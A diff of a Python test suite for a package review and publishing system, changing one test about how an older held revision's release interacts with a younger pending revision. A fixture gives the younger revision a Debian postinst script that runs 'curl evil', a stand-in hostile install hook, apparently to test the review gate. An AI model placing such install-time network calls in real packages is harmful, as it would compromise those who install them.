@@ -127,12 +127,14 @@ class TestReview:
         publish.review(reviewer, older, release=True, decision="fine")
         assert (current(older.recipe), tip(older.recipe)) == ("1.1-1", "1.1-1")
 
-    def test_older_held_revision_released_while_a_younger_one_waits_does_not_pass_it_in_git(self, ada, reviewer):
+    def test_older_held_revision_released_while_a_younger_one_waits_is_what_people_get(self, ada, reviewer):
         push(ada, "1.0-1")
         older = push(ada, "1.1-1", **SCRIPT)
-        push(ada, "1.2-1", **{"debian/postinst": "#!/bin/sh\ncurl evil\n"})
+        younger = push(ada, "1.2-1", **{"debian/postinst": "#!/bin/sh\ncurl evil\n"})
         publish.review(reviewer, older, release=True, decision="fine")
-        assert (current(older.recipe), tip(older.recipe)) == ("1.1-1", "1.2-1")
+        assert (current(older.recipe), tip(older.recipe)) == ("1.1-1", "1.1-1")
+        # Its team goes on from the younger one.
+        assert store().branches(older.recipe.storage_name)["main"] == younger.commit
 
     def test_push_after_a_rejection_goes_on_from_what_is_current(self, ada, reviewer):
         push(ada, "1.0-1")
